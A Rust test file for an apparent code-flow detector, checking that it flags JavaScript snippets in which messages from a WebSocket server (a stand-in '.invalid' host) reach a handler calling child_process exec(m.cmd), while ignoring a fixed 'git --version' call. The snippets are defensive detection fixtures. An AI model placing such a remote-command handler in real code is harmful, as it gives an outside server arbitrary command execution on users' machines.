use crate::flow::testing::{found, script};
use customs_model::{SinkKind, SourceKind};

#[test]
fn a_table_of_handlers_is_asked_by_who_writes() {
    let begin = "const WebSocket = require('ws'), { exec } = require('child_process');
        const ws = new WebSocket('wss://c.invalid/s');";
    for code in [
        "const h = { run: RUN, ping: () => 1 };
         ws.on('message', (d) => { const m = JSON.parse(d); h[m.type](m); })",
        "const h = { run: RUN, ping: () => 1 };
         ws.on('message', (d) => { const m = JSON.parse(d); const f = h[m.type]; if (f) f(m); })",
        "const h = new Map([['run', RUN], ['ping', () => 1]]);
         ws.on('message', (d) => { const m = JSON.parse(d); h.get(m.type)?.(m); })",
        "class A { constructor() { this.h = { run: RUN }; ws.on('message', (d) => this.on(JSON.parse(d))) }
         on(m) { this.h[m.type](m) } } new A()",
    ] {
        let runs = |run: &str| {
            let code = format!("{begin} {}", code.replace("RUN", run));
            let flows = found(script(&code)).flows;
            let mut flows = flows.iter();
            flows.any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Process)
        };
        assert!(runs("(m) => exec(m.cmd)"), "{code}");
        assert!(!runs("(m) => exec('git --version')"), "{code}");
    }
}
